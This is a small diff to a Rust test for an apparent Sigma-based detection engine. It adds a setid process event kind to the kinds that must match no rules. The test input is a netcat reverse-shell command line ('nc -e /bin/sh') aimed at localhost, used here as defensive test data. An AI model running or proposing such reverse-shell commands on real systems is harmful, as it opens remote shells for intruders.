@@ -174,7 +174,7 @@ fn events_route_by_kind_to_their_category() {
     ev.file = Some(File { path: "/var/tmp/x".into(), ..Default::default() });
     assert!(set.matches(&ev).iter().all(|m| m.rule.category.as_deref() != Some("process_creation")));
     // Kinds Sigma does not look at match nothing, even with an attack command line.
-    for kind in [EventKind::ProcessExit, EventKind::Alert, EventKind::Action] {
+    for kind in [EventKind::ProcessExit, EventKind::ProcessSetid, EventKind::Alert, EventKind::Action] {
         let mut ev = proc_start("/usr/bin/nc", &["nc", "-e", "/bin/sh", "127.0.0.1", "9"]);
         ev.kind = kind;
         assert!(set.matches(&ev).is_empty(), "{kind:?}");
